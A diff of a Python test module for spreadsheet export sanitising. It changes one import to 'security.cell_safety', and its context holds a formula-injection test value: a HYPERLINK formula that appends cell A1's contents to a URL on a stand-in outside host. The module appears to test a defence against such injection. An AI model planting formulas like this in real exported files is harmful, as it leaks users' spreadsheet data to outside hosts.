@@ -17,7 +17,7 @@ import pytest
 from analysis import exports
 from analysis.service import rows_for
 from analysis.state import ViewState
-from cell_safety import safe_frame, safe_text
+from security.cell_safety import safe_frame, safe_text
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Kliknij")'
 NEGATIVE = -1234.5
